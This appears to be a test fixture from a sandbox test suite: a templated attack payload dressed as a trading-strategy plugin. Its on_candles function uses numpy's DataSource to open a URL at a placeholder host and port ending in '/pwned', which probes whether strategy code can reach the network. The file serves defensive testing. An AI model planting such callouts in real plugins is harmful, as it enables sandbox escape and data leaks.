"""Tries numpy's DataSource, which can open URLs, to reach the listener.
Contained: lint_failed
Says: numpy is not available
"""
# ruff: noqa
# fmt: off
# An attack payload (a template: {{...}} is substituted). See tests/attacks/catalogue.py.


def meta():
    return {
        "name": "attack",
        "version": "1.0.0",
        "api_version": 1,
        "timeframe": "1h",
        "lookback": 0,
        "description": "attack payload",
        "params": {},
    }


def on_candles(candles, params):
    src = np.lib.npyio.DataSource()
    src.open("http://{{HOST}}:{{PORT}}/pwned")
    n = len(candles)
    return ta.full(n, False), ta.full(n, False)
